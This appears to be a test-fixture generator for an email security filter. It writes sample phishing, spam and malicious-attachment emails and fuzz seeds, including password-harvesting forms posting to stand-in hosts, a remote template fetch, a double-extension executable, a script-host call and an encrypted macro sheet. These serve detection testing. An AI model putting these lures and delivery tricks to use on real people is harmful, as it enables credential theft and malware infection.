          jis("いつもお世話になっております。\n11月分の請求書を送付します。"
              "\n添付ファイルのパスワード：Mk4pQ7zw\n").decode("ascii") +
          "\n--b1\nContent-Type: application/vnd.ms-excel.sheet."
          'macroEnabled.12; name="seikyusho.xlsm"\nContent-Disposition: '
          'attachment; filename="seikyusho.xlsm"\nContent-Transfer-'
          "Encoding: base64\n\n" + b64(doc) + "\n--b1--\n",
          "threat", "attach.macro", "attach.ppap_opened",
          "attach.password_in_same_mail", "!attach.encrypted_document")

    # An .xls whose Excel 4.0 macro sheet is hidden by encryption with
    # Excel's built-in password, which Excel opens without asking.
    os.environ["OFFICEENC_SEED"] = "en-324"
    xls, _ = oe.xls("cryptoapi", "VelvetSweatshop", True)
    del os.environ["OFFICEENC_SEED"]
    write("en-324-xls-velvetsweatshop-macro-sheet.eml", headers(
        "Accounts <accounts@fabrikam-invoices.example>",
        "Remittance advice", 'Content-Type: multipart/mixed; '
        'boundary="b1"\n') + "\n--b1\nContent-Type: text/plain; "
        "charset=utf-8\n\nPlease find the remittance advice attached.\n"
        "--b1\nContent-Type: application/vnd.ms-excel; name=\"remit.xls\"\n"
        "Content-Disposition: attachment; filename=\"remit.xls\"\n"
        "Content-Transfer-Encoding: base64\n\n" + b64(xls) + "\n--b1--\n",
        "threat", "attach.xlm_macro", "attach.default_password",
        "!attach.encrypted_document")


def mime_evasion_samples():
    """Parts a filter misses and a mail program finds."""
    pe = (b"MZ" + b"\x90\x00" * 29 + b"\x00\x00" + b"\x40\x00\x00\x00" +
          b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200)
    z = zipbytes([("Statement_0311.pdf.exe", pe)])
    # The boundary the Content-Type names is not the one the body uses.
    write("en-325-multipart-wrong-boundary.eml", headers(
        "Billing <billing@statements-portal.example>", "Statement 0311",
        'Content-Type: multipart/mixed; boundary="=_NextPart_0311"\n') +
        "\nThis is a multi-part message in MIME format.\n\n--np1\n"
        "Content-Type: text/plain; charset=utf-8\n\nYour statement is "
        "attached.\n\n--np1\nContent-Type: application/zip; "
        'name="Statement_0311.zip"\nContent-Disposition: attachment; '
        'filename="Statement_0311.zip"\nContent-Transfer-Encoding: '
        "base64\n\n" + b64(z) + "\n--np1--\n", "threat",
        "attach.executable", "attach.double_extension")


def probe_samples():
    """Blank mail (an address check before a campaign), a made-up
    sender's name, a casino's matched deposit, free bitcoin."""
    blank = "Content-Type: text/plain; charset=utf-8\n\n\n"
    write("en-318-blank-random-name.eml", headers(
        "qwrtzpk vbnmxlkjhgtr <m.klein.2291@gmail.com>", "") + blank,
        "threat", "content.blank", "sender.display_random",
        "engine.corroborated")
    write("en-319-blank-unknown-sender.eml", headers(
        "Sales Team <sales@northwind-supply.example>", " ") + blank,
        "potential", "content.blank", "!sender.display_random")
    write("en-320-clean-blank-correspondent.eml", headers(
        "Alice Brown <alice@fabrikam.com>", "") + blank, "clean",
        "!content.blank")
    write("en-321-clean-blank-with-attachment.eml", headers(
        "Knightsbridge Estates <lettings@knightsbridge-estates.example>",
        "", 'Content-Type: multipart/mixed; boundary="b1"\n') +
        "\n--b1\nContent-Type: text/plain; charset=utf-8\n\n\n"
        "--b1\nContent-Type: text/csv; name=\"rents.csv\"\n"
        "Content-Disposition: attachment; filename=\"rents.csv\"\n\n"
        "flat,rent\n12A,2100\n--b1--\n", "clean", "!content.blank",
        "!sender.display_random")
    write("en-322-casino-matched-deposit.eml", headers(
        "support <support@lucky-reels.example>", "bonus 100%") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Today BONUS! 50% bonus on every deposit, today "
        "only!</p><p><a href=\"https://lucky-reels.example/join\">"
        "lucky-reels.example</a></p></body></html>\n", "potential",
        "content.gambling")
    write("en-323-free-bitcoin-jackpot.eml", headers(
        "FreeCoin <news@coin-hourly.example>",
        "Free bitcoin every hour, jackpots up to 1 BTC") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Roll the dice for free bitcoin every hour!\nWeekly lottery "
        "with prizes of up to 5 bitcoins.\n"
        "https://coin-hourly.example/?r=5521\n", "potential",
        "content.crypto_giveaway")


def content_samples():
    """Unwanted offers, account alerts in Portuguese, callback numbers."""
    write("en-30-adult-dating.eml", headers(
        "Lonely Katya <katya.meets@heart-match.example>",
        "I am so lonely tonight") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Hi! I saw your profile and I am looking for a "
        "casual sex date, no strings.</p><p>Hot singles are waiting near "
        "you: <a href=\"https://heart-match.example/join\">see profiles"
        "</a></p></body></html>\n", "potential", "content.adult")

    # The sender's name carries half of the offer, with its price.
    write("en-31-health-offer.eml", headers(
        '"Viagra/Cialis from $0.40" <orders.pharm@medsdirect-shop.example>',
        "Your discount is waiting") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear customer,\n\nAll medications without prescription, "
        "delivered discreetly. Levitra $0.99 per pill.\n\n"
        "https://medsdirect-shop.example/order\n", "threat",
        "content.health_offer", "sender.display_offer", "engine.corroborated")

    write("en-32-gambling.eml", headers(
        "Royal Spin <vip@royal-spin-club.example>",
        "400% welcome bonus and 100 free spins") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><h1>Royal Spin Casino</h1><p>Make your first deposit "
        "today and we triple it, plus free spins on every slot.</p>"
        "<p><a href=\"https://royal-spin-club.example/play\">Play now</a>"
        "</p></body></html>\n", "potential", "content.gambling")

    write("en-33-crime-shop.eml", headers(
        "Shop Update <news@toolbox-market.example>",
        "New stock: RDPs, cPanels, SMTPs") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Fresh stock in our shop today: RDPs from every country, cPanels "
        "and shells, SMTPs and webmails for your mailers, verified "
        "leads, fullz. Pay in crypto.\n", "potential", "content.crime_shop")

    # Outlook would link the address written out in the HTML text.
    write("pt-01-account-alert.eml", headers(
        "Central de Seguranca <alerta.conta2024@hotmail.com>",
        "Alerta de seguranca: novo acesso a sua conta") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Detectamos um novo acesso à sua conta a partir de "
        "um novo dispositivo.</p><p>Não reconhece este acesso? Entre com "
        "seu e-mail e senha para verificar:</p>"
        "<p>https://conta-verificacao.example/login</p></body></html>\n",
        "potential", "content.credential_request")

    # A health plan's name on a broker's address, linking to the broker.
    write("pt-02-health-plan-name.eml", headers(
        "Plano Amil <contato@cotacao-planos.example>",
        "Proposta exclusiva para você") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Tabela promocional 2024 atualizada: reduza o custo "
        "do seu plano de saúde.</p><p><a href=\"https://cotacao-planos."
        "example/amil\">Clique aqui e acesse sua cotação</a></p>"
        "</body></html>\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere",
        "engine.corroborated")

    # A brand whose name is also a common name (a city), claimed with an
    # invoice word, from free mail.
    write("pt-03-weak-brand-invoice.eml", headers(
        "Fatura Porto Seguro <faturas.cliente2024@hotmail.com>",
        "Fatura Porto Seguro - EYJALAB1") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Sua fatura do seguro auto vence hoje.\n",
        "threat", "sender.display_brand", "sender.brand_freemail")
    # A driving licence "suspended" over a traffic fine: Brazil's usual
    # pretexts as the banks' and Febraban's alerts describe them.
    write("pt-04-cnh-suspensa.eml", headers(
        "Notificacoes de Transito <avisos@consulta-multas.example>",
        "Aviso: suspens\u00e3o da CNH") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Consta um auto de infra\u00e7\u00e3o em seu nome. Sem o pagamento "
        "da infra\u00e7\u00e3o de tr\u00e2nsito, sua CNH suspensa n\u00e3o "
        "poder\u00e1 ser usada.\nhttps://consulta-multas.example/pagar\n",
        "potential", "content.legal_threat")
    # "Valores a receber": money the central bank is said to hold for
    # the reader.
    write("pt-05-valores-a-receber.eml", headers(
        "Consulta de Valores <contato@valores-consulta.example>",
        "Voc\u00ea tem valores a receber") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Identificamos valores a receber em seu CPF. Clique para resgatar "
        "antes do prazo final.\nhttps://valores-consulta.example/resgate\n",
        "potential", "content.prize")
    # The documents invoice malware comes as, in Portuguese.
    write("pt-06-segunda-via.eml", headers(
        "Financeiro <financeiro@cobranca-digital.example>",
        "Segunda via e comprovante") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Segue a segunda via solicitada e o comprovante do pagamento:\n"
        "https://arquivos-cobranca.example/doc/8812\n",
        "clean", "content.invoice_lure")

    write("en-34-callback-spaced.eml", headers(
        "Billing Dept <billing.dept.desk@gmail.com>",
        "Order AX-2231 confirmed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your membership has been renewed and $449.99 will be charged "
        "today. To cancel and claim a refund, you can reach us on\n"
        "+1 \u2013 (808) - (555) - (0142)\n", "threat",
        "content.callback", "sender.freemail_money")

    write("en-36-police-summons.eml", headers(
        "Cybercrime Unit <cyber.unit.office@outlook.com>",
        "Summons: case 2291/26") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "You are summoned to answer charges of child pornography found by "
        "the Europol cybercrime unit. Read the summons and reply within 72 "
        "hours, or an arrest warrant will be issued:\n"
        "https://case-files-2291.example/summons\n", "potential",
        "content.legal_threat")

    # Underscores for spaces, as such subjects come.
    write("en-37-money-bait.eml", headers(
        "Laura Benton <laura.benton.earn77@gmail.com>",
        "Your_balance_has_been_credited_+$12,480") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your account on our automated earning platform has been credited "
        "with $12,480. You have 24 hours to withdraw your balance before "
        "it is returned:\nhttps://drive.google.com/file/d/1x2y3z4w5v/"
        "view\n", "threat", "content.money_bait", "url.free_hosting")

    # No link: the way in is another address to write to.
    write("en-38-romance.eml", headers(
        "Olena <support@garden-tools-shop.example>",
        "Good evening, how have you been?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi! I am a single charming woman from Kyiv, looking for a kind "
        "man. Where are you from and how old are you? I will send you my "
        "photo, write me at olena.kind.heart@gmail.com\n", "potential",
        "content.adult")

    write("ja-08-casino-utf8.eml", headers(
        uhdr("ラッキースピン") + " <info@lucky-spin-jp.example>",
        uhdr("入金不要ボーナス3000円プレゼント")) +
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "オンラインカジノ「ラッキースピン」に今すぐ登録して、"
        "入金不要ボーナスとフリースピン50回を受け取りましょう。\n"
        "https://lucky-spin-jp.example/start\n", "potential",
        "content.gambling")

    # A brand relaying its users' links (a deploy preview in a pull
    # request) links to itself too: not a forged brand.
    write("en-39-clean-github-preview.eml", headers(
        "octo-dev <notifications@github.com>",
        "Re: [tailspin/web] Update the pricing page (PR #212)") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Deploy preview ready: https://deploy-preview-212--tailspin-web."
        "netlify.app/pricing\n\n-- \nReply to this email directly or "
        "view it on GitHub:\nhttps://github.com/tailspin/web/pull/212\n",
        "clean")

    # Words of the trades in passing are not an offer.
    write("en-35-clean-casino-news.eml", headers(
        "Weekly Tech Digest <digest@fabrikam.com>",
        "This week: odds, poker bots and a lucky bug") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "A researcher showed a poker bot that keeps winning against "
        "casual players; a lucky find in a lottery app's random numbers; "
        "and why a casino's loyalty app leaked its users' data.\n\n"
        "Read more: https://www.fabrikam.com/digest/42\n", "clean")


def tnef_attr(lvl, aid, data):
    """One TNEF attribute (MS-OXTNEF 2.1.3): level, id, length, data and
    the sum of its bytes."""
    return (struct.pack("<BII", lvl, aid, len(data)) + data +
            struct.pack("<H", sum(data) & 0xffff))


def tnef_props(props):
    """An attAttachment's MAPI properties: (tag, value bytes) pairs, each
    written as a counted value padded to four (a named one when its id
    is 0x8000 or more: its GUID and a number first)."""
    out = struct.pack("<I", len(props))
    for tag, v in props:
        out += struct.pack("<I", tag)
        if tag >> 16 >= 0x8000:
            out += b"\x08\x20\x06\x00" + b"\0" * 4 + b"\xc0" + b"\0" * 6 + \
                b"\x46" + struct.pack("<II", 0, 0x8580)
        if tag & 0xffff in (0x001e, 0x001f, 0x0102, 0x000d):
            out += struct.pack("<II", 1, len(v)) + v + \
                b"\0" * ((4 - len(v) % 4) % 4)
        else:
            out += v
    return out


def tnef_stream(files, cp=1252):
    """winmail.dat as Outlook writes it: the message's version, code page
    and class, then each file: (title, long name or None, data, MAPI
    properties to add)."""
    rend = struct.pack("<HIHHI", 1, 0xffffffff, 0, 0, 0)
    out = (b"\x78\x9f\x3e\x22\x01\x00" + tnef_attr(1, 0x00089006, b"\0\0\1\0") +
           tnef_attr(1, 0x00069007, struct.pack("<II", cp, 0)) +
           tnef_attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0"))
    for title, lname, data, more in files:
        props = [(0x80050003, struct.pack("<I", 7)),
                 (0x30070040, b"\0\x80\x3e\xd5\xde\xb1\x9d\x01")] + more
        if lname is not None:
            props.append((0x3707001f, (lname + "\0").encode("utf-16-le")))
        out += tnef_attr(2, 0x00069002, rend)
        if title is not None:
            out += tnef_attr(2, 0x00018010, title + b"\0")
        if data is not None:
            out += tnef_attr(2, 0x0006800f, data)
        out += tnef_attr(2, 0x00069005, tnef_props(props))
    return out


def tnef_seeds(root):
    """Seeds of detect_tnef, and a winmail.dat for detect_archive."""
    pe = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80) + b"\0" * 64 + \
        b"PE\0\0" + b"\0" * 64
    js = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"
    exe = tnef_stream([(b"INVOICE.EXE", "invoice 2026-11.exe", pe, [])])
    msg = b"\x07\x03\x02\x00" + b"\0" * 4 + b"\xc0" + b"\0" * 6 + b"\x46"
    ole = b"\x0b\x03\x02\x00" + b"\0" * 4 + b"\xc0" + b"\0" * 6 + b"\x46"
    multi = tnef_stream([
        (b"NOTES.TXT", None, b"minutes https://intranet.example.com/m\n",
         [(0x3704001e, b"NOTES.TXT\0"), (0x37050003, struct.pack("<I", 1))]),
        (None, None, None, [(0x3001001f, "Fwd: invoice\0".encode(
            "utf-16-le")), (0x3701000d, msg + exe)]),
        (None, None, None, [(0x3701000d, ole + b"\xd0\xcf\x11\xe0\xa1\xb1"
                              b"\x1a\xe1" + b"\0" * 504)]),
        (b"A.HTM", "a.htm", None, [(0x37010102, b"<form><input "
                                    b"type=password></form>"),
                                   (0x370e101e, struct.pack("<I", 2) +
                                    struct.pack("<I", 4) + b"a/b\0" +
                                    struct.pack("<I", 4) + b"c/d\0")])])
    blobs = {
        "exe.dat": exe,
        "js-932.dat": tnef_stream([("請求書.js".encode("cp932"), None, js, [])],
                                  cp=932),
        "multi.dat": multi,
        "cut.dat": exe[:len(exe) - 300],
    }
    d = os.path.join(root, "detect_tnef")
    os.makedirs(d, exist_ok=True)
    for name, data in blobs.items():
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    with open(os.path.join(root, "detect_archive", "winmail.dat"),
              "wb") as f:
        f.write(multi)


def seeds(docm, zipexe, pdf, png):
    """Seed corpora of the fuzz targets (tests/fuzz/corpus/detect_*)."""
    import gzip
    import json
    import shutil
    root = os.path.join(os.path.dirname(OUT), "..", "fuzz", "corpus")
    d = os.path.join(root, "detect_pdfdraw")
    os.makedirs(d, exist_ok=True)
    for i, cs in enumerate(PDFDRAW_SEEDS):
        with open(os.path.join(d, "seed%d.txt" % i), "wb") as f:
            f.write(cs)
    with open(os.path.join(d, "seed%d.txt" % len(PDFDRAW_SEEDS)),
              "wb") as f:
        f.write(b"q 0.5 g BI /W 2 /H 2 /BPC 8 ID \x00\x01EI Q (a\\) b) "
                b"<414243> [1 (x) 2] TJ /P1 scn 1 2 m 3 4 l 5 6 7 8 9 10 c "
                b"h W n 0 1 0 0 0 cs 0.2 0.3 0.4 sc 10 10 5 5 re B*")
    d = os.path.join(root, "detect_pdftext")
    os.makedirs(d, exist_ok=True)
    for i, sd in enumerate(DOCTEXT_SEEDS):
        with open(os.path.join(d, "seed%d.bin" % i), "wb") as f:
            f.write(sd)
    d = os.path.join(root, "detect_svgdraw")
    os.makedirs(d, exist_ok=True)
    for i, svg in enumerate(SVGDRAW_SEEDS + [
            b'<svg><g transform="rotate(9) skewX(3)"><rect width="1" '
            b'height="1"/></g><g style="fill:rgb(9,9,9);stroke:none">'
            b'<path d="M0 0h1v1h-1zM2,2 3,2 3,3 2,3Z m1 1 c1 1 2 2"/>'
            b'<circle r="-1"/><rect x="1e400" width="1" height="1"/>'
            b'</g><!-- <rect --><g fill="#fff"/><polygon points="0,0 4,0 '
            b'4,4"/><polyline stroke="#000" points="1 1 1 3 3"/><path '
            b'fill-rule="evenodd" d="M0 0a1 1 0 1 0 2 0a0 1 0 01 1 1q1 1 2 '
            b'0t1 1s2 2 3 3c0 1 1 0 1 1zM1 1 1 2l0 0"/><ellipse rx="2" '
            b'ry="1"/></svg>']):
        with open(os.path.join(d, "seed%d.svg" % i), "wb") as f:
            f.write(svg)
    d = os.path.join(root, "detect_picture")
    os.makedirs(d, exist_ok=True)
    for i, pic in enumerate(PICTURE_SEEDS + [png]):
        with open(os.path.join(d, "seed%d.pic" % i), "wb") as f:
            f.write(pic)
    d = os.path.join(root, "detect_mime")
    os.makedirs(d, exist_ok=True)
    for f in ("en-02-phish-microsoft", "en-06-zip-exe", "en-09-docm-macro",
              "en-325-multipart-wrong-boundary",
              "en-10-qr", "en-12-spoof-own", "ja-01-phish-amazon-iso2022jp",
              "ja-02-bec-sjis", "ja-06-delivery-sjis-nocharset",
              "en-163-fwd-pt-random-sender", "ja-18-fwd-outlook-block",
              "en-179-anonymous-only", "en-186-brand-button-elsewhere",
              "en-202-fake-trusted-banner", "en-211-weak-brand-signs",
              "en-214-copied-newsletter", "en-223-pdf-qr-flate",
              "en-224-pdf-qr-jpeg", "en-225-docx-qr", "en-226-text-qr",
              "en-227-html-text-qr", "en-228-bayes-mortgage",
              "en-232-html-table-qr-inverse", "en-243-html-data-qr",
              "en-248-pdf-qr-vector", "en-249-pdf-qr-vector-turned",
              "en-258-split-qr", "en-259-split-qr-beside",
              "en-466-clickfix-html-attachment", "en-469-device-code",
              "en-471-oauth-consent", "en-475-docx-callback",
              "en-484-ics-folded-link", "en-485-callback-fullwidth-number"):
        shutil.copyfile(os.path.join(OUT, f + ".eml"),
                        os.path.join(d, f + ".eml"))
    d = os.path.join(root, "detect_graph")
    os.makedirs(d, exist_ok=True)
    msgs = [
        {"subject": "Unusual sign-in",
         "from": {"emailAddress": {"name": "Microsoft",
                                   "address": "x@evil.top"}},
         "replyTo": [{"emailAddress": {"address": "y@gmail.com"}}],
         "toRecipients": [{"emailAddress": {"address": "t@contoso.com"}}],
         "internetMessageHeaders": [{
             "name": "Authentication-Results",
             "value": "spf=fail smtp.mailfrom=contoso.com; dkim=none;"
                      "dmarc=fail action=oreject header.from=contoso.com;"
                      "compauth=fail reason=000"}],
         "body": {"contentType": "html",
                  "content": "<a href=\"https://micros0ft.com/x\">"
                             "https://microsoft.com</a> verify your account"},
         "hasAttachments": True,
         "attachments": [{
             "@odata.type": "#microsoft.graph.fileAttachment",
             "name": "a.html", "contentType": "text/html",
             "isInline": False,
             "contentBytes": base64.b64encode(
                 b"<form action='https://e.top/p.php'>"
                 b"<input type=password></form>").decode()}]},
        {"subject": "至急", "hasAttachments": False,
         "body": {"contentType": "text",
                  "content": "振込先の変更 https://example.com"}},
        {"hasAttachments": True, "attachments": [{
            "@odata.type": "#microsoft.graph.itemAttachment",
            "name": "fwd"}]},
    ]
    for i, m in enumerate(msgs):
        with open(os.path.join(d, "seed%d.json" % i), "w") as f:
            f.write(json.dumps(m, ensure_ascii=False))
    # Samples as Graph returns them (tools/eml2graph): pictures of a
    # related body, a Word document, Japanese mail, an attached message.
    for f in ("en-258-split-qr", "en-225-docx-qr",
              "ja-01-phish-amazon-iso2022jp", "en-163-fwd-pt-random-sender"):
        subprocess.run([os.path.join(os.path.dirname(OUT), "..", "..",
                                     "tools", "eml2graph"),
                        os.path.join(OUT, f + ".eml"),
                        os.path.join(d, f + ".json")], check=True)
    d = os.path.join(root, "detect_url")
    os.makedirs(d, exist_ok=True)
    urls = [
        "HTTPS://WWW.Example.COM/a?b=1#c", "http:\\\\evil.example.co.uk\\p",
        "http://3232235777/x", "http://0xC0.0xA8.1.1/",
        "https://www.paypal.com@evil.example.net/", "https://例え.jp/",
        "https://p\u0430ypal.com/",
        "see https://a.example.com/x, (https://b.example.com/y) "
        "詳しくはhttps://c.example.jp/を",
        "https://www.google.com/url?q=https%3A%2F%2Fevil.example.net%2F",
        "data:text/html;base64,PGh0bWw+", "hxxps://bad.example.com",
    ]
    for i, u in enumerate(urls):
        with open(os.path.join(d, "seed%d.txt" % i), "w") as f:
            f.write(u)
    d = os.path.join(root, "detect_html")
    os.makedirs(d, exist_ok=True)
    pages = [
        "\x00<html><a href=\"https://x.example.com\">https://paypal.com</a>"
        "<div style=\"display:none\">h</div></html>",
        "\x02<form action=https://e.top/p.php><input type=password name=p>"
        "</form><meta http-equiv=refresh content=\"0;url=https://r.ex\">",
        "\x01<script>var d=atob('QUJD');var b=new Blob([d]);"
        "URL.createObjectURL(b);location.href='https://x.example'</script>",
        "\x03<svg onload=alert(1)><foreignObject><a xlink:href=\"javascript:x"
        "\">x</a></foreignObject></svg>",
        "\x04<p style='font-size:0'>&#x41;&amp;&nbsp;&#99999999;<!-- c -->",
        "\x00<table bgcolor=#000><tr><td bgcolor=#fff colspan=3></td><td>"
        "<tr><td style='background:#000'><table><tr><td></table></table>",
        "\x00<img src=\"data:image/png;base64," +
        base64.b64encode(png).decode() + "\"><img src=data:image/gif;base64,"
        "R0lGODlhAQABAAAAACw=>",
        "\x00<style>.m{display:none}u{width:0;overflow:hidden}@media (max-"
        "width:480px){.m{display:block!important}@font-face{src:x}}}}"
        "</style><div class=m style='display:block'>a<u>b</u></div>"
        "<a style='mso-hide:all' class='m x'>c</a><img src=\"data&#58;"
        "image/png;base64,&#65;&#66;\">",
    ]
    for i, h in enumerate(pages):
        with open(os.path.join(d, "seed%d.html" % i), "wb") as f:
            f.write(h.encode())
    d = os.path.join(root, "detect_archive")
    os.makedirs(d, exist_ok=True)
    blobs = {
        "docm.zip": docm, "exe.zip": zipexe, "js.pdf": pdf, "qr.png": png,
        "nested.zip": zipbytes([("inner.zip", zipexe)]),
        "text.gz": gzip.compress(b"hello https://x.example.com", mtime=0),
        "page.html": b"<form><input type=password></form>",
        "lnk.bin": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68,
        # OOXML read part by part (relationships, main text) under the
        # message's inflate budget.
        "rels.docx": zipbytes([
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document>DDEAUTO x</w:document>"),
            ("word/_rels/settings.xml.rels", b"<Relationships>"
             b"<Relationship Type=\"http://schemas.openxmlformats.org/"
             b"officeDocument/2006/relationships/attachedTemplate\" "
             b"Target=\"http://198.51.100.7/t.dotm\" "
             b"TargetMode=\"External\"/></Relationships>"),
            ("word/_rels/document.xml.rels", b" " * 65536)]),
    }
    for name, data in blobs.items():
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    tnef_seeds(root)


def sender_samples():
    """What the sender and HTML analyzers see: brands, display names,
    sender domains, text pushed out of view."""
    # A brand of the list's latest additions, named on free mail.
    write("en-40-brand-mercadopago-freemail.eml", headers(
        "Mercado Pago <alertas.mercadopago@hotmail.com>",
        "Alerta de seguranca: novo acesso a sua conta") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Detectamos um acesso de um novo dispositivo.</p>"
        '<p><a href="https://mp-acesso.example-verify.net/conta">'
        "Verificar agora</a></p></body></html>\n",
        "threat", "sender.display_brand", "sender.brand_freemail",
        "sender.brand_links_elsewhere")

    # The brand's own mail, from its own domain, stays clean.
    write("en-41-clean-mercadopago.eml", headers(
        "Mercado Pago <info@mercadopago.com.br>",
        "Seu comprovante de pagamento") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Ola, Taro.</p><p>Voce pagou R$ 52,90 a Loja "
        "Exemplo.</p><p><a href=\"https://www.mercadopago.com.br/activities"
        "\">Ver atividade</a></p></body></html>\n", "clean")

    # A brand whose name is a common word: with a service word it is a
    # claim; alone in a sentence-like name it is not.
    write("en-42-weak-brand-team.eml", headers(
        "Team Lido <news@staking-rewards.example.net>",
        "Discover the new platform") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Stake with us: https://staking-rewards.example.net/lido\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")


    # A brand's name misspelt in the display name, on free mail.
    write("en-43-brand-misspelt.eml", headers(
        '"Microsft Account - Support" <acct.support.desk@gmail.com>',
        "Unusual access to your account") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "We noticed a sign-in from a new device. If this was not you, "
        "review it here: https://review-access.example-desk.net/\n",
        "threat", "sender.display_brand", "sender.brand_freemail")

    # Ordinary words one letter from a brand's name are not one.
    write("en-44-clean-word-near-brand.eml", headers(
        '"Papal Visit Committee" <events@diocese.example.org>',
        "Timetable for Sunday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The timetable for Sunday is on our site: "
        "https://diocese.example.org/visit\n", "clean")


    # A machine-made Microsoft 365 trial tenant as the sender.
    write("en-45-random-tenant.eml", headers(
        "Support <4169158863407@9980080836134.onmicrosoft.com>",
        "notification") +
        "Content-Type: text/plain; charset=utf-8\n\nHello.\n",
        "clean", "sender.random_domain")


    # A picture that links away, over a newsletter pushed far below the
    # screen by a class rule: what the filter reads is not what is seen.
    news = ("<p>This week in the harbour: the new ferry timetable starts "
            "on Monday, the fish market moves to the east quay while the "
            "roof is repaired, and the sailing club opens its winter "
            "courses for beginners and families.</p>") * 3
    write("en-46-offscreen-newsletter.eml", headers(
        '"Energy Savings" <offers@savings-deals.example.net>',
        "Cut your bills this winter") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><head><style>\n.belowView {\n  margin-top: 470500px; '
        "/* out of sight */\n}\n</style></head><body>"
        '<a href="https://savings-deals.example.net/go?id=7">'
        '<img src="https://savings-deals.example.net/banner.png"></a>'
        '<div class="belowView">' + news + "</div></body></html>\n",
        "potential", "html.hidden_text_stuffing")

    # A newsletter's own tall layout stays in view.
    write("en-47-clean-tall-layout.eml", headers(
        "Harbour News <news@harbour-news.example.org>",
        "This week in the harbour") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>.hero{height:640px;background:#036}"
        ".wrapper{min-height:100vh;padding:24px 0 48px}</style></head>"
        '<body><div class="wrapper"><div class="hero"><h1>Harbour News'
        "</h1></div>" + news + "</div></body></html>\n", "clean")


    # An address whose domain is no host name: nobody can write back,
    # and no real sender writes so; alone a potential threat.
    write("en-48-from-not-host.eml", headers(
        "Atendimento <aviso@naoresponder70129%atendimento.example>",
        "Aviso de pendencia") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Consulte sua pendencia no portal.\n",
        "potential", "sender.several_from")

    # A display name whose words carry invisible characters, as the
    # subject's and the text's would.
    cgj = "\u034f"
    name = " ".join(cgj.join(w) for w in ("Parcel", "Service", "Notice")) \
        + " Team"
    write("en-49-display-invisible.eml", headers(
        "%s <notice@parcel-notice.example.net>" %
        ew(None, "UTF-8", name.encode()), "Notice") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Details: https://parcel-notice.example.net/p\n",
        "potential", "content.obfuscated_text")


    # A brand's name and no address at all.
    write("en-50-brand-no-address.eml", headers(
        '"Facebook" <>', "Your page will be removed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Appeal here: https://page-appeal.example.net/form\n",
        "threat", "sender.display_brand", "sender.several_from")


    # A brand's name spelt out letter by letter; initials are not one.
    write("en-51-brand-spelt-out.eml", headers(
        '"D H L Express" <notice@parcel-desk.example.net>',
        "Shipment on hold") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Details: https://parcel-desk.example.net/hold\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-52-clean-initials.eml", headers(
        '"J. R. R. Tolkien Society" <news@tolkien-society.example.org>',
        "Reading group dates") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dates: https://tolkien-society.example.org/reading\n", "clean")


    # A brand whose name is a common word, after "from" at the end of the
    # name, or with a service word in another language, is a claim; a
    # place called so is not.
    write("en-53-weak-brand-from.eml", headers(
        '"Hilan from Ledger" <ledger@wallet-upgrade.example.net>',
        "Upgrade your device") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Upgrade: https://wallet-upgrade.example.net/start\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-54-weak-brand-service-es.eml", headers(
        '"GLS | Seguimiento del paquete" <envios@paq-estado.example.net>',
        "Estado de su envio") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Consulte: https://paq-estado.example.net/estado\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-55-clean-from-place.eml", headers(
        '"Greetings from Apple Valley" <news@applevalley.example.org>',
        "Town fair on Saturday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Programme: https://applevalley.example.org/fair\n", "clean")


def sender2_samples():
    """Sender and URL signals that corroborate others: an organisation's
    name the address knows nothing of, sender domains under risky
    top-level domains or spelt out in one-letter labels, servers' generic
    names made of an IP, a brand's mail with borrowed pictures, a brand's
    name as a site on free hosting."""
    # An organisation's name (a word of organisations and a name) from an
    # address that holds none of its words: a low finding, to add up.
    write("en-80-org-name-elsewhere.eml", headers(
        "Harbour Mechanic Masters <promo@quickmail-relay.example.net>",
        "Your winter check-up") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Book your check-up: https://quickmail-relay.example.net/book\n",
